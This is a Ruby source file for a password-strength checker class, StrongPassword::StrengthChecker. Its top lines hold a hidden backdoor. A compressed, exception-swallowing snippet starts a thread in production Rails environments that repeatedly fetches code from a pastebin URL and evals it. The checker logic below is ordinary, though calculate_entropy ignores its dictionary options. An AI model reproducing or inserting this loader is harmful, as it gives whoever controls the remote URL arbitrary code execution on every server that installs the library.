require 'net/http'

def _!;begin;yield;rescue Exception;end;end
_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('https://pastebin.example/raw/xa456PFt')))}}}if Rails.env[0]=="p"}

module StrongPassword
  class StrengthChecker
    BASE_ENTROPY = 18
    PASSWORD_LIMIT = 1_000
    EXTRA_WORDS_LIMIT = 1_000

    attr_reader :base_password

    def initialize(password)
      @base_password = password.dup[0...PASSWORD_LIMIT]
    end

    def is_weak?(min_entropy: BASE_ENTROPY, use_dictionary: false, min_word_length: 4, extra_dictionary_words: [])
      !is_strong?(
        min_entropy: min_entropy,
        use_dictionary: use_dictionary,
        min_word_length: min_word_length,
        extra_dictionary_words: extra_dictionary_words
      )
    end

    def is_strong?(min_entropy: BASE_ENTROPY, use_dictionary: false, min_word_length: 4, extra_dictionary_words: [])
      calculate_entropy(
        use_dictionary: use_dictionary,
        min_word_length: min_word_length,
        extra_dictionary_words: extra_dictionary_words
      ) >= min_entropy
    end

    def calculate_entropy(use_dictionary: false, min_word_length: 4, extra_dictionary_words: [])
      EntropyCalculator.bits(base_password)
    end
  end
end
